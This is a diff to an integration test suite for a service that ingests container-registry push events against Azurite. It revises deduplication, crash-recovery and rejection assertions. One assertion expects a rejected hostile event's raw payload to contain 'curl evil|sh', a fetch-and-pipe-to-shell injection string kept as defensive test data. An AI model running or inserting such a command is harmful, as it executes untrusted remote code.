@@ -51,12 +51,11 @@ describe('IntakeService against Azurite', () => {
         });
 
         const all = await rows(table);
-        const eventRows = all.filter((r) => String(r.partitionKey).startsWith('event:'));
+        const eventRows = all.filter((r) => r.partitionKey === 'event');
         expect(eventRows).toHaveLength(1);
-        expect(eventRows[0]).toMatchObject({ eventId: 'evt-dup', route: 'scan', state: 'done', repository: 'quarantine/team/app' });
-        expect(await store.findByDigest(`sha256:${'a'.repeat(64)}`)).toEqual([
-            expect.objectContaining({ eventId: 'evt-dup', route: 'scan', repository: 'quarantine/team/app' }),
-        ]);
+        expect(eventRows[0]).toMatchObject({ eventId: 'evt-dup', route: 'scan', repository: 'quarantine/team/app', scanRequestId: results[0]!.scanRequestId });
+        // Quarantine pushes need no digest row (their scan result is recorded by digest downstream).
+        expect(await store.findByDigest(`sha256:${'a'.repeat(64)}`)).toEqual([]);
     });
 
     it('deduplicates concurrent deliveries of a batch too', async () => {
@@ -65,9 +64,9 @@ describe('IntakeService against Azurite', () => {
         const b = imagePushed('evt-b', 'quarantine/b', 'b');
         const results = await service().handleBatch([a, b, a, b, a, b], silentLog);
         expect(results.filter((r) => r.route === 'scan')).toHaveLength(6);
-        // Each id is claimed exactly once. A duplicate that arrives while the first delivery is still
-        // in flight finds the claim pending and sends again (indistinguishable from a crashed
-        // delivery; harmless because scans are idempotent per digest), so 2 to 6 messages.
+        // Each id is recorded exactly once. A duplicate that arrives while the first delivery is still
+        // in flight finds no record yet and sends again (harmless: scans are idempotent per
+        // digest), so 2 to 6 messages.
         const sources = (await peekAll(queue)).map((m) => (m as { sourceEventId: string }).sourceEventId);
         expect(new Set(sources)).toEqual(new Set(['evt-a', 'evt-b']));
         expect(sources.length).toBeGreaterThanOrEqual(2);
@@ -101,11 +100,11 @@ describe('IntakeService against Azurite', () => {
         expect(malformed.key.id).toMatch(/^payload-sha256:[0-9a-f]{64}$/);
 
         const hostileRow = await store.get(hostile.key);
-        expect(hostileRow).toMatchObject({ route: 'reject', state: 'done', reason: expect.stringMatching(/invalid data\.target\.repository/) });
+        expect(hostileRow).toMatchObject({ route: 'reject', reason: expect.stringMatching(/invalid data\.target\.repository/) });
         expect(hostileRow?.raw).toContain('curl evil|sh');
         expect(await store.get(malformed.key)).toMatchObject({ route: 'reject', reason: expect.stringMatching(/^malformed JSON/), raw: '{"id": "x", "eventType": ' });
         expect(await store.get(unknown.key)).toMatchObject({ route: 'reject', reason: 'unknown event type "Microsoft.Storage.BlobCreated": not an ACR registry event' });
-        expect(await store.get(ignored.key)).toMatchObject({ route: 'ignore', state: 'done' });
+        expect(await store.get(ignored.key)).toMatchObject({ route: 'ignore', reason: expect.stringMatching(/outside both prefixes/) });
         expect((await rows(table)).filter((r) => String(r.partitionKey).startsWith('digest:'))).toHaveLength(0);
 
         // A rejected event redelivered is recognised as a duplicate too.
@@ -124,11 +123,12 @@ describe('IntakeService against Azurite', () => {
         );
         const event = imagePushed('evt-crash', 'quarantine/app', 'e');
         await expect(service(deadQueue).handle(event, silentLog)).rejects.toThrow();
-        expect(await store.get({ id: 'evt-crash', slot: 'ImagePushed' })).toMatchObject({ state: 'pending', route: 'scan' });
+        // Nothing is recorded until the scan request is out, so the redelivery is not mistaken for a duplicate.
+        expect(await store.get({ id: 'evt-crash', slot: 'ImagePushed' })).toBeUndefined();
 
         const redelivered = await service().handle(event, silentLog);
-        expect(redelivered.delivery).toBe('resumed');
-        expect(await store.get({ id: 'evt-crash', slot: 'ImagePushed' })).toMatchObject({ state: 'done' });
+        expect(redelivered).toMatchObject({ delivery: 'first', route: 'scan' });
+        expect(await store.get({ id: 'evt-crash', slot: 'ImagePushed' })).toMatchObject({ route: 'scan', scanRequestId: redelivered.scanRequestId });
         expect((await service().handle(event, silentLog)).delivery).toBe('duplicate');
         const messages = await peekAll(queue);
         expect(messages).toHaveLength(1);
